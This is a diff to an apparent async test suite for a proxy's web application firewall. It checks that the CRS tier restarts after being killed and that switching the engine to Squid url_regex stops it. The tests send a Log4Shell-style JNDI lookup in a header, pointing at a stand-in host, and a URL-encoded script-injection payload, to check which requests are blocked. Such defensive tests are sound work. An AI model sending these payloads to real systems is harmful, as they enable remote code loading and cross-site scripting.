@@ -136,3 +136,23 @@ async def test_with_the_tier_killed_inspected_requests_are_refused_until_it_is_b
     assert tier["last_exit"] == -signal.SIGKILL and tier["pid"] != before["pid"]
     r = await crs.fetch(crs.url("allowed.test", "/crs-after?q=%3Cscript%3Ealert(1)%3C/script%3E"))
     assert r.status_code == 403 and "waf:XSS" in r.text
+
+
+async def test_back_to_url_regex_the_tier_stops_and_squid_decides_alone(crs):
+    r = await crs.api.put("/api/settings/waf_engine", json={"value": "url_regex"})
+    assert r.status_code == 200
+    try:
+        health = (await crs.api.get("/health")).json()
+        assert "nginx-crs" not in {c["name"] for c in health["children"]}
+        stats = (await crs.api.get("/api/waf/stats")).json()["data"]
+        assert stats["engine"] == "squid url_regex" and "crs" not in stats
+        # a header attack passes the URL rules; a URL one is refused by Squid's own ACL
+        header = await crs.proxy.get(
+            crs.url("allowed.test", "/regex-header"), headers={"X-Api": "${jndi:ldap://x.test/a}"}
+        )
+        assert header.status_code == 200
+        url = await crs.fetch(crs.url("allowed.test", "/regex-url?q=%3Cscript%3Ealert(1)%3C/script%3E"))
+        assert url.status_code == 403 and "waf:XSS" in url.text
+    finally:
+        assert (await crs.api.put("/api/settings/waf_engine", json={"value": "crs"})).status_code == 200
+    assert (await _tier(crs))["state"] == "running"
